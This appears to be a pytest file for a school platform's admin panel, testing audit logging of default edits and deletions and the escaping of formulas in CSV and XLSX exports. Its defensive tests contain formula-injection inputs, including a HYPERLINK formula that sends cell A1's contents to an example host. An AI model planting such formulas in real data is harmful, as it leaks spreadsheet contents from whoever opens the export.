"""The shared admin base: default changes reach the audit log; exports hold no formulas."""

from __future__ import annotations

from io import BytesIO
from typing import Any

import pytest
from flask_login import login_user
from openpyxl import load_workbook
from sqlalchemy import select

from admin_views.base import Scope, ScopedModelView
from quest_platform.models import AuditEntry, Classroom
from quest_platform.spreadsheets import spreadsheet_safe


class PlainClassroomView(ScopedModelView):
    """A view that keeps Flask-Admin's default update and delete (ours use services)."""

    def scope(self) -> Scope:
        return None


class RenameForm:
    """Stands in for a submitted form: it sets a new name on the record."""

    def populate_obj(self, record: Any) -> None:
        record.name = "Renamed by default"


def entries(db, classroom_id: int) -> list[AuditEntry]:
    query = select(AuditEntry).where(
        AuditEntry.table_name == "classroom", AuditEntry.record_id == str(classroom_id)
    )
    return list(db.session.scalars(query.order_by(AuditEntry.id)))


def test_default_updates_and_deletes_are_audited(app, db, make):
    teacher = make.teacher()
    classroom = make.classroom(teachers=[teacher])
    classroom_id, old_name = classroom.id, classroom.name
    view = PlainClassroomView(Classroom, endpoint="plain_classroom")
    with app.test_request_context():
        login_user(teacher)
        assert view.update_model(RenameForm(), classroom)
        assert view.delete_model(classroom)
    update, delete = entries(db, classroom_id)[-2:]
    assert (update.action, update.actor_id) == ("update", teacher.id)
    assert (update.before["name"], update.after["name"]) == (old_name, "Renamed by default")
    assert (delete.action, delete.before["name"], delete.after) == (
        "delete",
        "Renamed by default",
        {},
    )
    assert db.session.get(Classroom, classroom_id) is None


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("Ada Lovelace", "Ada Lovelace"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Ada\x07 L.", "Ada L."),
        ("\x00=1", "'=1"),
        (7, 7),
        (None, None),
    ],
)
def test_exported_text_never_starts_a_formula(value, exported):
    assert spreadsheet_safe(value) == exported


def test_a_name_that_looks_like_a_formula_is_plain_text_in_every_export(
    client, db, school, login_as
):
    """A student chooses their display name; a teacher's spreadsheet must not run it."""
    formula = '=HYPERLINK("https://example.org/?"&A1,"Open")'
    school.student.display_name = formula + "\x07"
    db.session.commit()
    login_as(school.teacher)

    csv = client.get("/admin/user/export/csv/").get_data(as_text=True)
    assert "'=HYPERLINK(" in csv
    workbook = load_workbook(BytesIO(client.get("/admin/user/export/xlsx/").get_data()))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    cell = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert (cell.value, cell.data_type) == (f"'{formula}", "s")
